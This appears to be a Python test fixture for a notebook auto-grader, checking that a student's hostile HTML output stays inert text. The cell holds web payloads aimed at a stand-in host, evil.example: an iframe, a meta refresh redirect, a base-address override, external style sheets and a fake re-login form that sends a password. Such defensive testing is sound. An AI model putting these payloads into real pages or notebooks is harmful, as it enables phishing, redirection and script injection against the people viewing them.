"""Shows frames, objects, forms, meta refresh, a base address and a style sheet from outside.

Holds: what a student's code shows, says or is called is text to whoever opens it: nothing in it runs.
"""

from tests.hostile.case import TENSORS

DESERVES = {"tensors": 10}
CELLS = {
    "tensors": TENSORS,
    "after tensors": r"""
from IPython.display import HTML, IFrame, display

display(IFrame("https://evil.example/", 100, 100))
display(HTML("<iframe srcdoc='<script>hostile_script()</script>'></iframe><object data='javascript:x'></object>"))
display(HTML("<meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example/'>"))
display(HTML("<form action='https://evil.example/'><input name=password><button>다시 로그인하십시오</button></form>"))
display(HTML("<link rel=stylesheet href='https://evil.example/x.css'><embed src='data:text/html,<script>x</script>'>"))
display(HTML("<style>@import 'https://evil.example/hostile_script.css'; table { display: none }</style>"))
""",
}
